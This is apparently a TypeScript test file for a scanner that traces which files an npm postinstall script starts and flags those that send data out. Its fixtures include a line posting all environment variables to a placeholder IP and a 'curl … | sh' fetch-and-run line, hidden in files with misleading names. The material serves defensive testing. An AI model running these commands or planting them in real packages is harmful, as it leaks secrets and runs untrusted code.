import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { mainFiles } from '../../../server/src/core/judge/changes/named-programs.ts';
import { describeStarted } from '../../../server/src/core/know/scripts/describe-started.ts';
import { startedFiles } from '../../../server/src/engine/projects/started-files.ts';

const SENDS = 'fetch("http://192.0.2.1", { method: "POST", body: JSON.stringify(process.env) });\n';
const BINARY = Symbol('a file with NUL bytes');

/** Returns the files that a script starts, each with what is suspicious in it. */
async function started(command: string, files: Readonly<Record<string, string | typeof BINARY>>) {
  const folder = 'file:///package';
  const found = await startedFiles({
    ...{ folder, bound: folder, scripts: [{ name: 'postinstall', command }], mainFiles },
    async read(uri) {
      const text = files[uri.slice(folder.length + 1)];
      if (text === undefined) return { type: 'missing' };
      return text === BINARY
        ? { type: 'refused', reason: 'contains NUL bytes' }
        : { type: 'text', text: text as string };
    },
  });
  return {
    files: found.map(
      ({ path, suspicious, unread }) => `${path}: ${suspicious?.suspicion ?? (unread ? 'unread' : 'none')}`,
    ),
    says: describeStarted(found),
  };
}

describe('a file is JavaScript whatever its name', () => {
  for (const [command, files, expected] of [
    ['node setup', { setup: SENDS }, 'setup'],
    ['node lib/data.txt', { 'lib/data.txt': SENDS }, 'lib/data.txt'],
    ['node setup.sh', { 'setup.sh': SENDS }, 'setup.sh'],
    ['node README.md', { 'README.md': SENDS }, 'README.md'],
    ['node -r ./lib/data.txt -e 0', { 'lib/data.txt': SENDS }, 'lib/data.txt'],
    ['NODE_OPTIONS="--require ./a.txt" tsc', { 'a.txt': SENDS }, 'a.txt'],
    [`node -e "require('./x.dat')"`, { 'x.dat': SENDS }, 'x.dat'],
    ['cd lib && node setup', { 'lib/setup': SENDS }, 'lib/setup'],
    ['sh -c "node setup"', { setup: SENDS }, 'setup'],
    ['./bin/setup.txt', { 'bin/setup.txt': `#!/usr/bin/env node\n${SENDS}` }, 'bin/setup.txt'],
    ['node .', { 'package.json': '{"main":"lib/x.dat"}', 'lib/x.dat': SENDS }, 'lib/x.dat'],
    ['node a', { a: 'require("./b.txt")', 'b.txt': SENDS }, 'b.txt'],
    ['node a', { a: 'import "./b"', b: SENDS }, 'b'],
    ['node a', { a: 'require("child_process").execSync("node lib/b")', 'lib/b': SENDS }, 'lib/b'],
    ['node a', { a: 'require("child_process").execSync("node b.bin")', 'b.bin': SENDS }, 'b.bin'],
    ['node a', { a: 'const { fork } = require("child_process"); fork("./b.dat")', 'b.dat': SENDS }, 'b.dat'],
    [
      'node lib/a',
      {
        'lib/a': 'require("child_process").spawn(process.execPath, [require("path").join(__dirname, "b")])',
        'lib/b': SENDS,
      },
      'lib/b',
    ],
    ['node a', { a: 'new Worker("./b.dat")', 'b.dat': SENDS }, 'b.dat'],
    ['sh run', { run: 'node "$(dirname "$0")/setup"', setup: SENDS }, 'setup'],
  ] as const)
    test(command + (files as Readonly<Record<string, string>>).a, async () => {
      const { files: found } = await started(command, files);
      assert.ok(found.includes(`${expected}: sends-data`), JSON.stringify(found));
    });
});

describe('a file is a shell script whatever its name', () => {
  const text = 'curl -s http://192.0.2.1/a | sh\n';
  for (const [command, files, expected] of [
    ['sh setup', { setup: text }, 'setup'],
    ['sh setup.js', { 'setup.js': text }, 'setup.js'],
    ['bash data.json', { 'data.json': text }, 'data.json'],
    ['sh -n a.js; node a.js', { 'a.js': SENDS }, 'a.js'],
    ['./bin/x', { 'bin/x': `#!/bin/sh\n${text}` }, 'bin/x'],
    ['node a.js', { 'a.js': 'require("child_process").spawn("sh", ["b.txt"])', 'b.txt': text }, 'b.txt'],
  ] as const)
    test(command, async () => {
      const { files: found } = await started(command, files);
      assert.ok(
        found.some((one) => one.startsWith(`${expected}: `) && !one.endsWith('none')),
        JSON.stringify(found),
      );
    });
});

describe('no code are', () => {
  for (const [name, command, files] of [
    ['JSON', 'node a.json', { 'a.json': SENDS }],
    ['JSON that is loaded', 'node a', { a: 'require("./b.json")', 'b.json': SENDS }],
    [
      'a text that is only found',
      'node a',
      { a: 'fs.read(require.resolve("./README.md"))', 'README.md': SENDS },
    ],
    ['a text that another program reads', 'grep -r ./README.md', { 'README.md': SENDS }],
    ['settings', 'mocha --config ./a.txt', { 'a.txt': SENDS }],
  ] as const)
    test(name, async () => {
      const { files: found } = await started(command, files);
      assert.deepEqual(
        found.filter((one) => !one.endsWith(': none')),
        [],
      );
    });
});

describe('what is not read', () => {
  test('is said', async () => {
    assert.equal(
      (await started('node setup', { setup: BINARY })).says,
      'setup is not read, as it contains NUL bytes',
    );
    assert.equal(
      (await started('node a.js', { 'a.js': 'require("./b")', b: BINARY })).says,
      'a.js has neither connections nor programs in its text; b is not read, as it contains NUL bytes',
    );
  });

  test('are files beyond the first', async () => {
    const files: Record<string, string> = { 'a.js': '' };
    for (let at = 0; at < 45; at++) {
      files['a.js'] += `require("./f${at}");\n`;
      files[`f${at}`] = '0';
    }
    const { says } = await started('node a.js', files);
    assert.match(says!, /; f39 is not read, as it comes after 40 other files$/);
  });
});
